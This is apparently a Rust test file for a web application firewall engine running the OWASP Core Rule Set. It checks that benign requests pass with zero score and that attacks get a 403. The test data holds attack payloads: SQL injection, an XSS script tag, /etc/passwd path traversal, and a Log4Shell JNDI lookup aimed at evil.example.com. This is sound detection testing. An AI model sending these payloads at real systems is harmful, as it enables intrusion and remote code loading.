//! End-to-end transactions against CRS: benign traffic passes with score 0, attacks
//! reach the blocking threshold, in both CRS versions.

mod common;

use common::{Req, browser_headers, run};
use engine::Ruleset;
use std::sync::Arc;

fn benign_get(rs: &Arc<Ruleset>) {
    let req = Req {
        method: "GET",
        uri: "/products/list?category=books&page=2&sort=price",
        headers: browser_headers(),
        body: b"",
    };
    let (i, tx) = run(rs, &req);
    assert!(
        i.is_none(),
        "benign GET blocked: {i:?}\n{:?}",
        tx.matched_rule_ids()
    );
    assert_eq!(
        tx.anomaly_scores().0,
        0,
        "matched: {:?}",
        tx.matched_rule_ids()
    );
}

fn benign_post(rs: &Arc<Ruleset>) {
    let mut headers = browser_headers();
    headers.push(("Content-Type", "application/x-www-form-urlencoded"));
    headers.push(("Content-Length", "63"));
    let body = b"name=Alice+Smith&email=alice%40example.com&message=Hello+there%21";
    let req = Req {
        method: "POST",
        uri: "/contact",
        headers,
        body,
    };
    let (i, tx) = run(rs, &req);
    assert!(
        i.is_none(),
        "benign POST blocked: {i:?}\n{:?}",
        tx.matched_rule_ids()
    );
    assert_eq!(
        tx.anomaly_scores().0,
        0,
        "matched: {:?}",
        tx.matched_rule_ids()
    );
}

fn blocked(rs: &Arc<Ruleset>, uri: &str, extra: Vec<(&str, &str)>) {
    let mut headers = browser_headers();
    headers.extend(extra);
    let req = Req {
        method: "GET",
        uri,
        headers,
        body: b"",
    };
    let (i, tx) = run(rs, &req);
    let i = i.unwrap_or_else(|| panic!("not blocked: {uri}; matched {:?}", tx.matched_rule_ids()));
    assert_eq!(i.status, 403);
    assert_eq!(
        i.rule_id,
        Some(949110),
        "matched {:?}",
        tx.matched_rule_ids()
    );
    assert!(tx.anomaly_scores().0 >= 5);
}

fn attacks(rs: &Arc<Ruleset>) {
    blocked(rs, "/item?id=1'%20OR%20'1'='1", vec![]);
    blocked(rs, "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", vec![]);
    blocked(rs, "/download?file=../../../../etc/passwd", vec![]);
    blocked(
        rs,
        "/lookup?user=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example.com%2Fa%7D",
        vec![],
    );
}

#[test]
fn crs_v4_benign_and_attacks() {
    let rs = common::crs_v4();
    benign_get(&rs);
    benign_post(&rs);
    attacks(&rs);
    // CRS v4 also looks for Log4Shell in every header (944150); CRS 3.3.4 has no such rule.
    blocked(
        &rs,
        "/",
        vec![("X-Api-Version", "${jndi:ldap://evil.example.com/a}")],
    );
}

#[test]
fn crs_v3_benign_and_attacks() {
    let rs = common::crs_v3();
    benign_get(&rs);
    benign_post(&rs);
    attacks(&rs);
    // Debian's CRS 3.3.4 has no Log4Shell rule: libmodsecurity 3.0.9 with it lets
    // a `${jndi:...}` header through as well. Instead, an Accept header with an
    // empty parameter name: only PCRE's possessive `;\s*+` in 920600 rejects it
    // (libmodsecurity blocks it with 920600 and 949110).
    blocked(&rs, "/", vec![("Accept", "text/html; =x")]);
}
